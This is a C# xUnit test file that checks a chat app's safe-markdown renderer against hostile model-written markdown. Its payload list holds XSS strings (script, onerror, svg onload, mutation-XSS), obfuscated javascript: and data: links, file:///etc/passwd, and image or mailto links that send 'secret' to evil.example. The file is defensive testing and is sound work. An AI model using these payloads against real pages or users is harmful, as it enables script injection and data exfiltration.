using Rag.Web.Chat;

namespace Rag.Web.Tests.Chat;

/// <summary>T11 and T12: what a model writes can load nothing, run nothing and lead nowhere unseen.</summary>
public sealed class SafeMarkdownTests
{
    private static readonly string[] Payloads =
    [
        "![x](https://evil.example/p.png?d=secret)",
        "![x][r]\n\n[r]: https://evil.example/p.png",
        "[![x](https://evil.example/p.png)](https://evil.example/)",
        "<img src=https://evil.example/p.png onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<style>body{background:url(https://evil.example/p)}</style>",
        "<p style=\"background:url(https://evil.example/p)\">x</p>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example><button>x</button></form>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](//evil.example/p)",
        "[x](/assistants/delete)",
        "[x](\\\\evil.example\\p)",
        "[x](https://user:password@evil.example/)",
        "[x](https://bank.example@evil.example/)",
        "[x](mailto:a@evil.example?body=secret)",
        "[x](ftp://evil.example/p)",
        "<javascript:alert(1)>",
        "<https://evil.example/p?d=secret>",
        "https://evil.example/p?d=secret",
        "www.evil.example",
        "[x](https://evil.example/p \"onmouseover=alert(1)\")",
        "[x](https://evil.example/\"onmouseover=\"alert(1))",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x](https://xn--pple-43d.example/)",
        "[x](https://аpple.example/)",
        "<span data-s=\"0\">forged</span>",
        "[^1]\n\n[^1]: ![x](https://evil.example/p.png)",
        "`<img src=x onerror=alert(1)>`",
    ];

    private static readonly string[] Frames =
    [
        "{0}", "Prose before {0} and after.", "| a | b |\n|---|---|\n| {0} | c |", "- one\n- {0}", "> {0}", "```\ncode\n{0}", "~~~html\n{0}\n~~~\n{0}", "**{0}** _{0}_", "# {0}",
    ];

    public static TheoryData<string, string> Vectors
    {
        get
        {
            var data = new TheoryData<string, string>();
            foreach (var payload in Payloads)
            {
                foreach (var frame in Frames)
                {
                    data.Add(payload, frame);
                }
            }

            return data;
        }
    }

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Parse_HostileMarkdown_YieldsAllowedElementsAndSeenLinksOnly(string payload, string frame)
    {
        var markdown = frame.Replace("{0}", payload, StringComparison.Ordinal);
        foreach (var nodes in new[] { SafeMarkdown.Parse(markdown), SafeMarkdown.Parse(markdown, [new CheckedSentence(0, markdown.Length, null)]) })
        {
            foreach (var element in Flatten(nodes).OfType<SafeNode.Element>())
            {
                Assert.Contains(element.Name, SafeMarkdown.Elements);
                Assert.True(element.Href is null == element.Name is not "a");
                if (element.Href is { } href)
                {
                    Assert.Matches("^/leaving\\?to=https?%3A%2F%2F[^@:\"'<> ]+$", href);
                    Assert.DoesNotContain("%40", href, StringComparison.Ordinal);
                }
            }

            Assert.All(Flatten(nodes).OfType<SafeNode.Sentence>(), s => Assert.Equal(0, s.Index));
        }
    }

    [Fact]
    public void Parse_PlainLink_LeadsThroughOurPage()
    {
        var link = Flatten(SafeMarkdown.Parse("[x](https://example.org/a?b=c&d=e)")).OfType<SafeNode.Element>().Single(e => e.Name == "a");
        Assert.Equal("/leaving?to=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc%26d%3De", link.Href);
    }

    [Fact]
    public void Parse_Image_LeavesItsWords() =>
        Assert.Equal("See the chart here.", Words(SafeMarkdown.Parse("See ![the chart](https://evil.example/p.png) here.")));

    [Fact]
    public void Parse_LookAlikeHost_ShowsItsPunycode() =>
        Assert.Equal("xn--pple-43d.example", OutsideLink.Host(OutsideLink.TryParse("https://аpple.example/")!));

    [Fact]
    public void Parse_MarkdownOfAnAnswer_KeepsItsShape()
    {
        var nodes = SafeMarkdown.Parse("# T\n\n- **a** `b`\n\n| x | y |\n|---|---|\n| 1 | 2 |\n");
        Assert.Superset(new HashSet<string> { "h1", "ul", "li", "strong", "code", "table", "th", "td" }, Flatten(nodes).OfType<SafeNode.Element>().Select(e => e.Name).ToHashSet());
    }

    [Theory]
    [InlineData("Sales **rose. They** fell.")]
    [InlineData("One. Two `code. More` here. Three.")]
    [InlineData("- First. Second.\n- Third \\* escaped. Fourth.")]
    [InlineData("| a. | b |\n|---|---|\n| c | d |\n\nAfter it. [Link. Text](https://example.org) ends.")]
    [InlineData("Line one\nline two. Next & last.")]
    public void Parse_CheckedSentences_EachWordStandsInItsSentence(string markdown)
    {
        CheckedSentence[] sentences = [.. MarkdownSentences.Split(markdown).Select(s => new CheckedSentence(s.Start, s.Length, null))];

        var pieces = Flatten(SafeMarkdown.Parse(markdown, sentences)).OfType<SafeNode.Sentence>().ToList();

        for (var i = 0; i < sentences.Length; i++)
        {
            var own = pieces.Where(p => p.Index == i).ToList();
            Assert.True(own[^1].Last);
            Assert.DoesNotContain(own.SkipLast(1), p => p.Last);
            Assert.Equal(Letters(markdown.Substring(sentences[i].Start, sentences[i].Length).Replace("(https://example.org)", "", StringComparison.Ordinal)), Letters(string.Concat(own.Select(p => p.Value))));
        }
    }

    private static string Letters(string text) => string.Concat(text.Where(char.IsLetterOrDigit));

    private static string Words(IEnumerable<SafeNode> nodes) => string.Concat(Flatten(nodes).Select(n => n switch
    {
        SafeNode.Text text => text.Value,
        SafeNode.Sentence sentence => sentence.Value,
        _ => "",
    })).Trim();

    private static IEnumerable<SafeNode> Flatten(IEnumerable<SafeNode> nodes) =>
        nodes.SelectMany(n => n is SafeNode.Element element ? Flatten(element.Children).Prepend(n) : [n]);
}
